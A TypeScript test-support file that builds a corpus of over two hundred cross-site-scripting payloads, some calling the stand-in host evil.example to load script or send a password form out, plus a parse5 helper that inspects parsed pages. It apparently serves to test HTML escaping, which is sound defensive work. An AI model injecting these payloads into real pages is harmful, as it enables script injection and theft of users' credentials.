// Texts that attack whoever prints them into HTML, and what a parser of HTML sees of a page.

import { type DefaultTreeAdapterTypes, parse } from 'parse5'

const MARKUP = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></ScRiPt>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=//evil.example">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>*{background:url(//evil.example)}</style>',
  '<form action=//evil.example><input name=password>',
  '<body onload=alert(1)>',
  '<plaintext>',
  '<xmp><b>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--',
  '-->',
  '<!-- --!><img src=x onerror=alert(1)>',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?php echo 1 ?>',
  '<a href="javascript:alert(1)">x</a>',
  '<template><img src=x onerror=alert(1)></template>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror="alert(1)">',
  '<marquee onstart=alert(1)>',
  '<object data="data:text/html,<script>alert(1)</script>">',
  '<embed src="javascript:alert(1)">',
]
const WAYS_OUT = [
  '',
  '"',
  "'",
  '`',
  '">',
  "'>",
  '" ',
  "' ",
  '</p>',
  '</title>',
  '</style>',
  '</pre>',
  '</a>',
  '</li></ul>',
  '</main></body></html>',
  '--><',
]
const OTHERS = [
  '" onmouseover="alert(1)',
  "' onmouseover='alert(1)",
  '` onmouseover=`alert(1)',
  '"autofocus onfocus=alert(1) x="',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)',
  '&#x3c;img src=x onerror=alert(1)&#x3e;',
  '&quot; onclick=alert(1) x=&quot;',
  '\u0000<scr\u0000ipt>alert(1)</script>',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '\ud800<img src=x onerror=alert(1)>',
  '\u2028<img src=x onerror=alert(1)>\u2029',
  '\uff1cscript\uff1ealert(1)',
  '\u0130<script>',
  '{detail}{constructor}',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '\r\n\r\n<script>alert(1)</script>',
  '\x1b]8;;http://evil.example\x1b\\x',
  '{{constructor.constructor("alert(1)")()}}',
  'javascript:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  '\u0001javascript:alert(1)',
  'JaVaScRiPt:alert(1)//http://',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  'blob:http://x/y',
  'file:///etc/passwd',
  '//evil.example',
  '/\\evil.example',
  '\\\\evil.example',
  'http:evil.example',
  'https:/evil.example"><script>',
  'http://a/"onclick="alert(1)',
  "http://a/'onclick='alert(1)",
  '/x"><img src=x onerror=alert(1)>',
]

/** More than two hundred of them. */
export const HOSTILE: readonly string[] = [
  ...OTHERS,
  ...MARKUP.flatMap((markup, i) =>
    WAYS_OUT.filter((_, j) => (i + j) % 2 === 0).map((way) => `x${way}${markup}`),
  ),
]

type Node = DefaultTreeAdapterTypes.Node

/** The elements of a page in order, each with the names of its attributes; and every link in it. */
export function shapeOf(page: string): { elements: string[]; links: string[]; text: string } {
  const elements: string[] = []
  const links: string[] = []
  let text = ''
  const visit = (node: Node): void => {
    if ('tagName' in node) {
      elements.push([node.tagName, ...node.attrs.map(({ name }) => name)].join(' '))
      for (const { name, value } of node.attrs) if (name === 'href' || name === 'src') links.push(value)
      if ('content' in node) visit(node.content)
      if (node.tagName === 'style') return
    }
    if (node.nodeName === '#comment') elements.push('#comment')
    if ('value' in node) text += node.value
    if ('childNodes' in node) for (const child of node.childNodes) visit(child)
  }
  visit(parse(page))
  return { elements, links, text }
}
